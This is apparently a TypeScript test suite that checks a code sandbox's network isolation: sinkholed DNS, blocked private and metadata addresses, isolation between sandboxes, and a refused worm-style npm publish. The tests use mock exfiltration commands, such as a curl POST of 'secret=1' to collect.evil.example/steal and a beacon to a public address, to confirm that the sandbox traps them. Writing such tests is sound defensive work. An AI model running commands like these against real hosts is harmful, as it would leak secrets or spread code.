import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Sandbox } from "../../../runner/sandbox/host.ts";
import { until } from "../../../runner/sandbox/deadline.ts";
import { noSandbox, openTestHost, quiet, runCommand, shell } from "./support.ts";

const DEADLINE = 120_000;

interface Sunk {
  client: string;
  name: string | null;
  heard: string;
}

describe.skipIf(noSandbox !== null)("a sandbox's network", () => {
  const sunk: Sunk[] = [];
  let opened: Awaited<ReturnType<typeof openTestHost>>;
  let sandbox: Sandbox;
  let bridgeAddress: string;
  beforeAll(async () => {
    opened = await openTestHost([quiet()], {
      sinkholed: ({ client, name, heard }) =>
        void sunk.push({ client, name, heard: Buffer.from(heard).toString("latin1") }),
    });
    sandbox = await opened.start();
    bridgeAddress = sandbox.environment.registry.address;
  }, 180_000);
  afterAll(async () => {
    await sandbox?.[Symbol.asyncDispose]();
    await opened?.[Symbol.asyncDispose]();
  }, 60_000);

  /** `open`, `closed` (refused at once), `silent` or the error, as a program in the sandbox sees it. */
  async function tcp(address: string, port: number, where = sandbox): Promise<string> {
    const code = `
      const socket = require("net").connect({ host: process.argv[1], port: +process.argv[2], timeout: 2500 });
      const end = (text) => { console.log(text); process.exit(); };
      socket.on("connect", () => end("open")).on("timeout", () => end("silent")).on("error", (error) => end(error.code));`;
    const argv = ["node", "-e", code, address, String(port)];
    return (await runCommand(where, { phase: "import", label: "tcp", argv, timeoutMs: 10_000 })).stdout.trim();
  }

  async function heardBy(matches: (connection: Sunk) => boolean): Promise<Sunk | undefined> {
    await until(5_000, 20, () => sunk.some(matches));
    return sunk.find(matches);
  }

  test(
    "its resolver is the runner's, and every name has an address of its own",
    async () => {
      const code = `const dns = require("dns/promises");
      (async () => console.log(JSON.stringify([
        (await dns.lookup("a.example")).address, (await dns.lookup("b.example")).address, (await dns.lookup("A.example")).address,
        (await dns.resolve6("a.example").catch((error) => error.code)), require("dns").getServers(),
      ])))()`;
      const { stdout } = await runCommand(sandbox, {
        phase: "import",
        label: "dns",
        argv: ["node", "-e", code],
        timeoutMs: 10_000,
      });
      const [a, b, again, none, servers] = JSON.parse(stdout);
      expect(a).toStartWith("10.213.");
      expect(b).not.toBe(a);
      expect(again).toBe(a);
      expect(none).toBe("ENODATA");
      expect(servers).toEqual([bridgeAddress]);
    },
    DEADLINE,
  );

  test(
    "a connection to any name on any port is accepted and heard, and is known by its name",
    async () => {
      await shell(
        sandbox,
        "curl -s -m 5 http://collect.evil.example:8081/steal -d secret=1; curl -sk -m 5 https://tls.evil.example/",
      );
      const http = await heardBy(({ name }) => name === "collect.evil.example");
      expect(http?.heard).toStartWith("POST /steal HTTP/1.1\r\n");
      expect(http?.heard).toEndWith("secret=1");
      expect((await heardBy(({ name }) => name === "tls.evil.example"))?.heard).toContain("tls.evil.example");
    },
    DEADLINE,
  );

  test(
    "a connection to a public address goes no further than the sinkhole",
    async () => {
      // TEST-NET-3: no one answers there, so whoever heard it was the sinkhole.
      await shell(sandbox, "curl -s -m 5 http://203.0.113.9:6666/beacon");
      const beacon = await heardBy(({ heard }) => heard.includes("/beacon"));
      // Where Docker gives an internal network no default route, nothing is heard.
      if (beacon !== undefined) expect(beacon.name).toBeNull();
      else expect(await tcp("203.0.113.9", 6666)).toBe("ENETUNREACH");
    },
    DEADLINE,
  );

  test(
    "other services of this host cannot be reached at any of its addresses",
    async () => {
      using service = Bun.listen({
        hostname: "0.0.0.0",
        port: 0,
        socket: { open: (socket) => void (socket.write("host"), socket.end()), data() {} },
      });
      const dockerBridge = (await Bun.$`ip -4 -o addr show docker0`.nothrow().quiet().text()).match(
        /inet ([\d.]+)/,
      )?.[1];
      for (const address of [bridgeAddress, ...(dockerBridge === undefined ? [] : [dockerBridge])]) {
        expect(await tcp(address, service.port)).toBe("ECONNREFUSED");
      }
      expect(await tcp(bridgeAddress, sandbox.environment.registry.port)).toBe("open");
    },
    DEADLINE,
  );

  test(
    "private and link-local networks are refused",
    async () => {
      for (const address of ["169.254.169.254", "192.168.1.1", "172.16.0.1", "10.0.0.1"]) {
        expect(["ECONNREFUSED", "ENETUNREACH"]).toContain(await tcp(address, 80));
      }
    },
    DEADLINE,
  );

  test(
    "datagrams reach no one but the resolver",
    async () => {
      const heard: string[] = [];
      const service = await Bun.udpSocket({
        hostname: "0.0.0.0",
        socket: { data: (_socket, data) => void heard.push(data.toString()) },
      });
      try {
        const code = `const socket = require("dgram").createSocket("udp4");
        socket.send("ping", +process.argv[2], process.argv[1], () => setTimeout(() => socket.close(), 500));`;
        const argv = ["node", "-e", code, bridgeAddress, String(service.port)];
        expect((await runCommand(sandbox, { phase: "import", label: "udp", argv, timeoutMs: 10_000 })).exit_code).toBe(
          0,
        );
        expect(heard).toEqual([]);
      } finally {
        service.close();
      }
    },
    DEADLINE,
  );

  test(
    "Docker's own resolver tells nothing of the outside",
    async () => {
      const code = `const resolver = new (require("dns").promises.Resolver)({ timeout: 1500, tries: 1 });
      resolver.setServers(["127.0.0.11"]);
      resolver.resolve4("name.example").then((found) => console.log(found.join()), (error) => console.log(error.code));`;
      const { stdout } = await runCommand(sandbox, {
        phase: "import",
        label: "dns",
        argv: ["node", "-e", code],
        timeoutMs: 10_000,
      });
      expect(stdout.trim()).toMatch(/^(?:10\.213\.\d+\.\d+|ESERVFAIL|ECONNREFUSED|ETIMEOUT|ENOTFOUND)$/);
    },
    DEADLINE,
  );

  test(
    "two sandboxes cannot reach each other",
    async () => {
      await using other = await opened.start();
      const listening = await other.hold({
        phase: "import",
        label: "listen",
        argv: ["node", "-e", 'require("net").createServer().listen(7777, "0.0.0.0", () => console.log("listening"))'],
        timeoutMs: 20_000,
      });
      const ended = listening.release();
      const address = (await shell(other, "hostname -i")).stdout.trim();
      await until(5_000, 50, async () => (await tcp("127.0.0.1", 7777, other)) === "open");
      expect(await tcp("127.0.0.1", 7777, other)).toBe("open");
      expect(["silent", "ECONNREFUSED", "EHOSTUNREACH"]).toContain(await tcp(address, 7777));
      other.killAll();
      await ended;
    },
    DEADLINE,
  );

  test(
    "a worm's npm publish is refused, and the attempt is answered",
    async () => {
      const { address, port } = sandbox.environment.registry;
      const end = await shell(
        sandbox,
        `npm config set //${address}:${port}/:_authToken=x; npm publish --ignore-scripts`,
      );
      expect(end.exit_code).not.toBe(0);
      const request = `curl -s -o /dev/null -w '%{http_code}' -X PUT http://${address}:${port}/webapp -d '{}'`;
      expect((await shell(sandbox, request)).stdout).toBe("403");
    },
    DEADLINE,
  );

  test(
    "mode none has loopback only",
    async () => {
      await using alone = await opened.start({ network: "none" });
      expect((await shell(alone, "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '")).stdout).toBe("lo\n");
      expect(await tcp(bridgeAddress, 4873, alone)).toBe("ENETUNREACH");
    },
    DEADLINE,
  );

  test(
    "no sandbox starts once another program has removed a firewall rule",
    async () => {
      await using second = await openTestHost([quiet()], { runner: "flushed" });
      const [rule = ""] = (await Bun.$`iptables-save -t filter`.quiet().text())
        .split("\n")
        .filter((line) => line.startsWith("-A INPUT -i") && line.includes("fangs:flushed:"));
      await Bun.$`iptables ${rule.replace("-A", "-D").replaceAll('"', "").split(" ")}`;
      await expect(second.start()).rejects.toMatchObject({ code: "sandbox_failed" });
    },
    DEADLINE,
  );

  test(
    "when the host closes, its network and its rules are gone",
    async () => {
      const rules = async () =>
        (await Bun.$`iptables-save`.quiet().text()).split("\n").filter((line) => /fangs/i.test(line));
      const networks = async () => (await Bun.$`docker network ls --format {{.Name}}`.quiet().text()).split("\n");
      const before = new Set(await networks());
      const { made, rule } = await (async () => {
        await using _ = await openTestHost([quiet()], { runner: "second" });
        const made = (await networks()).filter((name) => !before.has(name) && name.startsWith("fangs-"));
        return { made, rule: (await rules()).filter((line) => line.includes("fangs:second:")) };
      })();
      expect(made.length).toBeGreaterThanOrEqual(1);
      expect(rule.length).toBeGreaterThanOrEqual(4);
      expect((await rules()).filter((line) => line.includes("fangs:second:"))).toEqual([]);
      expect(await rules()).not.toEqual([]);
    },
    DEADLINE,
  );
});
